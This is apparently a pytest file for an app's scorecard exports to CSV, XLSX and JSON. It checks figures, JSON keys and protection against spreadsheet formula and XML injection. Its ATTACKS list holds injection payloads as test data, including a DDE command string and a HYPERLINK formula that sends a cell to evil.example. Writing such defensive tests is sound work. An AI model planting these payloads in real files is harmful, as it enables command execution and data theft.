"""A scorecard as CSV, XLSX and JSON says what its PDF says, and runs nothing."""

import csv
import json
from collections.abc import Iterator
from dataclasses import fields, replace
from datetime import UTC, datetime
from fractions import Fraction
from gettext import NullTranslations
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from app.exports import csv_files, figures, json_files, xlsx_files
from app.exports.harmless import for_csv
from app.exports.rows import ItemRow
from app.exports.visits import Line
from app.reports import answers as a
from app.reports.scorecard import Scorecard
from app.reports.wording import Wording
from tests.reports import samples

WORDS = Wording("en", NullTranslations())
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "－1",
    "＠SUM(A1)",
]
CARDS = {
    "fails": samples.harbour_street,
    "not applicable": samples.all_not_applicable,
    "passes": samples.passed,
    "greek and arabic": samples.greek_and_arabic,
    "many": samples.many,
}


def csv_of(card: Scorecard) -> bytes:
    file = BytesIO()
    csv_files.write_scorecard(card, WORDS, file)
    return file.getvalue()


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(content.decode("utf-8-sig"), newline="")))


def book_of(card: Scorecard, words: Wording = WORDS) -> Workbook:
    return load_workbook(BytesIO(xlsx_of(card, words)))


def xlsx_of(card: Scorecard, words: Wording = WORDS) -> bytes:
    file = BytesIO()
    xlsx_files.write_scorecard(card, words, file)
    return file.getvalue()


def with_note(text: str) -> Scorecard:
    return samples.card(samples.section(1, text, samples.item(text, note=text, department=text)))


@pytest.fixture(params=CARDS)
def card(request: pytest.FixtureRequest) -> Scorecard:
    return CARDS[request.param]()


# The figures are those of the scorecard


def test_csv_has_a_row_an_item(card: Scorecard) -> None:
    rows = rows_of(csv_of(card))
    assert list(rows[0]) == [field.name for field in fields(ItemRow)]
    columns = "number section item question state answer v earned possible win_back department way"
    assert " ".join(rows[0]) == f"{columns} stage note photos"
    assert [row["number"] for row in rows] == [item.number for item in card.items]
    for row, item in zip(rows, card.items, strict=True):
        if item.v is None:
            assert (row["v"], row["earned"], row["possible"]) == ("", "", "")
            continue
        assert float(row["v"]) == pytest.approx(float(item.v), abs=0.00005)
        assert row["earned"] == WORDS.points(item.earned).replace("−", "-")
        assert row["possible"] == WORDS.points(item.possible)
        shown = "" if item.win_back is None else str(float(WORDS.score(item.win_back)))
        assert row["win_back"] in (shown, shown.removesuffix(".0"))


def test_csv_begins_with_a_byte_order_mark_and_ends_lines_as_spreadsheets_do() -> None:
    content = csv_of(samples.passed())
    assert content.startswith(b"\xef\xbb\xbfnumber,")
    assert content.endswith(b"\r\n")
    assert content.count(b"\xef\xbb\xbf") == 1


def test_photos_are_named_by_their_printed_numbers() -> None:
    card = samples.harbour_street()
    rows = rows_of(csv_of(card))
    for row, item in zip(rows, card.items, strict=True):
        assert row["photos"] == ", ".join(str(photo.number) for photo in item.photos)


def test_the_workbook_holds_the_same_rows(card: Scorecard) -> None:
    book = book_of(card)
    assert book.sheetnames == ["Summary", "Items", "Departments, ways, stages", "Promises"]
    sheet = book["Items"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    for row, item in zip(rows, card.items, strict=True):
        assert row[0] == item.number
        assert row[7] == (None if item.v is None else figures.points(item.earned))
        assert row[9] == figures.score(item.win_back)


def test_cells_are_typed_and_the_head_stays() -> None:
    card = samples.harbour_street()
    book = book_of(card)
    for name in book.sheetnames:
        assert book[name].freeze_panes == "A2"
        assert (book[name].auto_filter.ref is None) == (name == "Summary")
        assert book[name].column_dimensions["A"].width > 5
    summary = {row[0].value: row[1] for row in book["Summary"].iter_rows(min_row=2)}
    assert summary["Visited"].is_date
    assert summary["Visited"].value == card.head.started.replace(tzinfo=None)
    assert summary["Score"].value == figures.score(card.total.score)
    assert summary["Result"].value == card.total.result
    assert summary["Version"].data_type == "n"
    seen = list(book["Departments, ways, stages"].iter_rows(min_row=2, values_only=True))
    assert len(seen) == sum(len(dimension.scores) for dimension in card.dimensions)


def test_promises_have_a_sheet() -> None:
    promise = a.Promise("ring back", by=datetime(2025, 11, 22, 9, tzinfo=UTC))
    none = a.Promise(None)
    card = samples.card(
        samples.section(
            1,
            "Till",
            samples.item("What was promised?", promise, 0, 0),
            samples.item("Anything else?", none, 0, 0),
            samples.item("And then?", replace(promise, settled="kept"), 0, 0),
        )
    )
    rows = list(book_of(card)["Promises"].iter_rows(min_row=2, values_only=True))
    assert [row[4] for row in rows] == ["open", "kept"]
    assert rows[0][2] == "ring back"


@given(st.fractions(-1000, 1000))
def test_figures_are_rounded_as_they_are_printed(figure: Fraction) -> None:
    written = WORDS.points(figure).replace("−", "-")
    assert float(written) == figures.points(figure)
    assert float(WORDS.score(figure)) == figures.score(figure)


def test_the_same_scorecard_is_the_same_workbook() -> None:
    def parts(content: bytes) -> dict[str, bytes]:
        with ZipFile(BytesIO(content)) as file:
            return {name: file.read(name) for name in file.namelist()}

    card = samples.harbour_street()
    assert parts(xlsx_of(card)) == parts(xlsx_of(card))


# JSON


def test_json_is_plain_and_exact(card: Scorecard) -> None:
    data = json.loads(json.dumps(json_files.as_json(card, WORDS), allow_nan=False))
    assert data["format"] == "gumsole scorecard 1"
    assert len(data["items"]) == len(list(card.items))
    for told, item in zip(data["items"], card.items, strict=True):
        assert told["address"] == item.address
        assert Fraction(told["earned"]["exact"]) == item.earned
        assert told["earned"]["shown"] == WORDS.points(item.earned).replace("−", "-")
        if item.v is not None:
            assert Fraction(told["v"]["exact"]) == item.v
    if card.total.score is not None:
        assert data["total"]["score"]["shown"] == WORDS.score(card.total.score)
    assert data["total"]["result"] == card.total.result
    assert data["win_back"] == [item.address for item in card.win_back]


def test_the_keys_of_json_are_a_promise() -> None:
    data = json_files.as_json(samples.harbour_street(), WORDS)
    assert _keys(data) == {
        "": "format language visit total change sections dimensions moments_of_truth items"
        " win_back failed_again open_promises not_judged counts",
        "visit": "id location checklist version version_sha256 role started_at submitted_at"
        " released_at distance_m revision revised link",
        "total": "result score raw earned possible target grade grades causes method",
        "change": "last_at last_score headline like_for_like items",
        "sections": "id number title score earned possible minimum weight way stage per"
        " repetitions",
        "dimensions": "name scores",
        "moments_of_truth": "score earned possible",
        "items": "address number section question state answer said reason note photos scored v"
        " earned possible win_back critical critical_failed bonus moment_of_truth department"
        " failed_before",
        "counts": "items scored evidence na skipped photos hidden",
    }


def _keys(data: json_files.Json) -> dict[str, str]:
    found = {"": " ".join(data)}
    for name, part in data.items():
        first = part[0] if isinstance(part, list) and part else part
        if isinstance(first, dict):
            found[name] = " ".join(first)
    return found


def test_every_kind_of_answer_has_a_name() -> None:
    assert set(json_files.KINDS) == set(a.Answer.__args__)
    assert len(set(json_files.KINDS.values())) == len(json_files.KINDS)


# Nothing that somebody typed is run


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_is_a_formula_in_csv(text: str) -> None:
    for row in rows_of(csv_of(with_note(text))):
        for name in ("section", "question", "note", "department"):
            assert row[name].startswith("'"), name


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize(
    "text", ["a;=1+1", 'a;"=1+1', "a\n=1+1", "a\t=1+1", '";=1+1', "a;\n ＝1", "a\r\n-1"]
)
def test_no_text_is_a_formula_where_a_file_is_cut_otherwise(text: str, separator: str) -> None:
    content = csv_of(with_note(text)).decode("utf-8-sig")
    assert not any(cell.lstrip("\"' \n\t").startswith(("=", "-", "＝")) for cell in naive(content))
    for row in csv.reader(StringIO(content, newline=""), delimiter=separator):
        assert not any(cell.strip().startswith(("=", "-", "＝")) for cell in row)


def naive(content: str) -> Iterator[str]:
    """Cells as the worst reader cuts them; an apostrophe first makes a text."""
    for line in content.replace("\t", ";").splitlines():
        for cell in line.split(";"):
            if not cell.startswith("'"):
                yield cell


@given(st.text())
def test_no_text_at_all_becomes_a_formula(text: str) -> None:
    written = StringIO(newline="")
    csv.writer(written).writerow([for_csv(text)])
    for row in csv.reader(StringIO(written.getvalue(), newline="")):
        for cell in row:
            assert not cell.strip().startswith(tuple("=+-@＝＋－＠"))


@pytest.mark.parametrize("text", ["5 - 3 = 2", "a@b.example", "-", "Ναι; ναι", "2025-11-21"])
def test_what_is_harmless_stays_readable(text: str) -> None:
    assert for_csv(text).removeprefix("'") == text


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_is_a_formula_in_a_workbook(text: str) -> None:
    content = xlsx_of(with_note(text))
    with ZipFile(BytesIO(content)) as file:
        sheet = file.read("xl/worksheets/sheet2.xml").decode()
        assert "<f>" not in sheet
        assert "<hyperlink" not in sheet
        assert 'quotePrefix="1"' in file.read("xl/styles.xml").decode()
    for row in load_workbook(BytesIO(content))["Items"].iter_rows(min_row=2):
        # openpyxl takes any text with = for a formula when it reads: what is stored decides.
        assert row[3].quotePrefix
        assert row[13].quotePrefix


@pytest.mark.parametrize(
    "text", ["\x00\x07bell", "\ud800half", "\ufffe", "_x0041_", "x" * 40_000, "😀" * 20_000]
)
def test_odd_texts_pass(text: str) -> None:
    card = with_note(text)
    assert rows_of(csv_of(card))
    cell = book_of(card)["Items"]["N2"].value
    assert cell
    assert len(cell.encode("utf-16-le")) // 2 <= 32_767 + 20
    assert json.dumps(json_files.as_json(card, WORDS)).encode("ascii")


@pytest.mark.parametrize(
    "text",
    [
        "<r></r>",
        "<r>&</r>",
        "<r><t>x</t></r></is></c><c r='N2'><f>1+1</f></c><c t='inlineStr'><is><r><t>y</t></r>",
        f"<r>{'x' * 40_000}</r>",
    ],
)
def test_no_text_is_markup_in_a_workbook(text: str) -> None:
    content = xlsx_of(with_note(text))
    with ZipFile(BytesIO(content)) as file:
        assert "<f>" not in file.read("xl/worksheets/sheet2.xml").decode()
    note = str(load_workbook(BytesIO(content))["Items"]["N2"].value)
    assert note[:100] == f"{text} "[:100]


def test_a_sheet_has_a_name_that_workbooks_take() -> None:
    class Bold(NullTranslations):
        def gettext(self, message: str) -> str:
            return f"{message}: [or] a/much*longer?name\\"

    card = samples.passed()
    names = book_of(card, Wording("en", Bold())).sheetnames
    assert len(names) == 4
    assert all(len(name) <= 31 for name in names)


# A list of visits


def line(number: int) -> Line:
    return Line(
        visit=f"0000-{number}",
        location="=Harbour",
        code="S001",
        region="Coast",
        visited=samples.STARTED,
        checklist="Mystery visit",
        version=3,
        by="Auditor",
        state="released",
        score=53.6,
        result="BELOW TARGET",
        grade=None,
        link="https://gumsole.example/visits/1",
    )


def test_a_list_of_visits_is_written_one_by_one() -> None:
    taken = []

    def lines() -> Iterator[Line]:
        for number in range(3):
            taken.append(number)
            yield line(number)

    file = BytesIO()
    csv_files.write_visits(lines(), file)
    rows = rows_of(file.getvalue())
    assert [row["visit"] for row in rows] == ["0000-0", "0000-1", "0000-2"]
    assert rows[0]["location"] == "'=Harbour"
    assert rows[0]["visited"] == "2025-11-21T11:42+01:00"
    assert rows[0]["score"] == "53.6"
    assert list(rows[0]) == [field.name for field in fields(Line)]


def test_a_list_of_visits_as_a_workbook() -> None:
    file = BytesIO()
    xlsx_files.write_visits(map(line, range(3)), WORDS, samples.STARTED, file)
    sheet = load_workbook(file)["Visits"]
    assert sheet.max_row == 4
    assert sheet["E2"].is_date
    assert sheet["J2"].value == 53.6
    assert sheet.auto_filter.ref == "A1:M4"
